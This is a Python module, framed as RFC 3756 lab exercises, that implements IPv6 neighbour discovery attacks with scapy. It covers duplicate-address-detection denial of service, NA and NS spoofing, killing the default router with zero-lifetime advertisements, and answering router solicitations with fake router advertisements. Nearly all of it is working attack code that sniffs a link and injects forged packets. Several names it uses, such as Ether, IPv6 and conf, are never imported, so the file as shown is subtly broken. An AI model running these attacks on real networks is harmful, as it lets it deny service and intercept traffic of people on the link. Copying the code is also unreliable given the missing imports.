# What neighbour discovery lets anybody on the link say: the exercises of RFC 3756, for labs.
import socket as _socket

# These stand in that module, and use what it has under these names.
import scapy.layers.inet6 as _module


def _watch(messages, mac_src_filter, wanted, answer, iface, reply_mac):
    iface = iface or conf.iface
    # Our own answers are no questions.
    own = " and not ether src %s" % reply_mac if reply_mac else ""

    def asks(req):
        if not (Ether in req and IPv6 in req and messages in req):
            return False
        return mac_src_filter in (None, req[Ether].src) and wanted(req)

    _module.sniff(store=0, filter="icmp6" + own, lfilter=asks, prn=lambda req: answer(req, iface),
                  iface=iface)


def _target(req):
    return _socket.inet_pton(_socket.AF_INET6, req[ICMPv6ND_NS].tgt)


# RFC 4861 section 4.3: a question about an address goes to the group of that address.
def _goes_to_group(req):
    group = _socket.inet_pton(_socket.AF_INET6, req[IPv6].dst)
    return group == in6_getnsma(_target(req))


# RFC 4862 section 5.4.2: who asks whether an address is taken has none so far.
def _dad(req, tgt_filter):
    return (req[IPv6].src == "::" and (not tgt_filter or _target(req) == tgt_filter)
            and _goes_to_group(req))


def NDP_Attack_DAD_DoS_via_NS(iface=None, mac_src_filter=None, tgt_filter=None, reply_mac=None):
    reply_mac = reply_mac or get_if_hwaddr(iface or conf.iface)

    def answer(req, iface):
        tgt = req[ICMPv6ND_NS].tgt
        rep = Ether(src=reply_mac) / IPv6(src="::", dst=req[IPv6].dst) / ICMPv6ND_NS(tgt=tgt)
        _module.sendp(rep, iface=iface, verbose=0)
        print("Reply NS for target address %s (received from %s)" % (tgt, req[Ether].src))

    _watch(ICMPv6ND_NS, mac_src_filter, lambda req: _dad(req, tgt_filter), answer, iface, reply_mac)


def NDP_Attack_DAD_DoS_via_NA(iface=None, mac_src_filter=None, tgt_filter=None, reply_mac=None):
    reply_mac = reply_mac or get_if_hwaddr(iface or conf.iface)

    def answer(req, iface):
        tgt = req[ICMPv6ND_NS].tgt
        rep = Ether(src=reply_mac) / IPv6(src=tgt, dst=req[IPv6].dst)
        rep /= ICMPv6ND_NA(tgt=tgt, S=0, R=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=reply_mac)
        _module.sendp(rep, iface=iface, verbose=0)
        print("Reply NA for target address %s (received from %s)" % (tgt, req[Ether].src))

    _watch(ICMPv6ND_NS, mac_src_filter, lambda req: _dad(req, tgt_filter), answer, iface, reply_mac)


def NDP_Attack_NA_Spoofing(iface=None, mac_src_filter=None, tgt_filter=None, reply_mac=None,
                           router=False):
    reply_mac = reply_mac or get_if_hwaddr(iface or conf.iface)

    def wanted(req):
        if req[IPv6].src == "::" or (tgt_filter and _target(req) != tgt_filter):
            return False
        if in6_isllsnmaddr(req[IPv6].dst) and not _goes_to_group(req):
            print("solicited node multicast @ does not match target @!")
            return False
        return True

    def answer(req, iface):
        tgt, mac = req[ICMPv6ND_NS].tgt, req[Ether].src
        rep = Ether(src=reply_mac, dst=mac) / IPv6(src=tgt, dst=req[IPv6].src)
        rep /= ICMPv6ND_NA(tgt=tgt, S=1, R=1 if router else 0, O=1)
        rep /= ICMPv6NDOptDstLLAddr(lladdr=reply_mac)
        _module.sendp(rep, iface=iface, verbose=0)
        print("Reply NA for target address %s (received from %s)" % (tgt, mac))

    _watch(ICMPv6ND_NS, mac_src_filter, wanted, answer, iface, reply_mac)


def NDP_Attack_NS_Spoofing(src_lladdr=None, src=None, target="2001:db8::1", dst=None, src_mac=None,
                           dst_mac=None, loop=True, inter=1, iface=None):
    iface = iface or conf.iface
    group = in6_getnsma(_socket.inet_pton(_socket.AF_INET6, target))
    below = {name: mac for name, mac in (("src", src_mac), ("dst", dst_mac)) if mac}
    above = {"dst": dst or _socket.inet_ntop(_socket.AF_INET6, group)}
    if src:
        above["src"] = src
    pkt = Ether(**below) / IPv6(**above) / ICMPv6ND_NS(tgt=target)
    pkt /= ICMPv6NDOptSrcLLAddr(lladdr=src_lladdr or get_if_hwaddr(iface))
    _module.sendp(pkt, inter=inter, loop=loop, iface=iface, verbose=0)


def NDP_Attack_Kill_Default_Router(iface=None, mac_src_filter=None, ip_src_filter=None,
                                   reply_mac=None, tgt_mac=None):
    reply_mac = reply_mac or get_if_hwaddr(iface or conf.iface)

    # RFC 4861 section 6.3.4: a lifetime of zero says that it is no default router.
    def wanted(req):
        return (ip_src_filter in (None, req[IPv6].src) and req[ICMPv6ND_RA].routerlifetime != 0)

    def answer(req, iface):
        src = req[IPv6].src
        rep = Ether(src=reply_mac, **({"dst": tgt_mac} if tgt_mac else {}))
        rep /= IPv6(src=src, dst="ff02::1") / ICMPv6ND_RA(prf=1, routerlifetime=0)
        option = req[ICMPv6ND_RA].payload
        while option:
            if isinstance(option, ICMPv6NDOptPrefixInfo):
                prefix = option.copy()
                prefix.remove_payload()
                rep /= prefix
            option = option.payload
        known = ICMPv6NDOptSrcLLAddr in req
        rep /= ICMPv6NDOptSrcLLAddr(lladdr=req[ICMPv6NDOptSrcLLAddr].lladdr if known
                                    else req[Ether].src)
        _module.sendp(rep, iface=iface, verbose=0)
        print("Fake RA sent with source address %s" % src)

    _watch(ICMPv6ND_RA, mac_src_filter, wanted, answer, iface, reply_mac)


def NDP_Attack_Fake_Router(ra, iface=None, mac_src_filter=None, ip_src_filter=None):
    def answer(req, iface):
        _module.sendp(ra, iface=iface, verbose=0)
        print("Fake RA sent in response to RS from %s" % req[IPv6].src)

    _watch(ICMPv6ND_RS, mac_src_filter, lambda req: ip_src_filter in (None, req[IPv6].src), answer,
           iface, None)
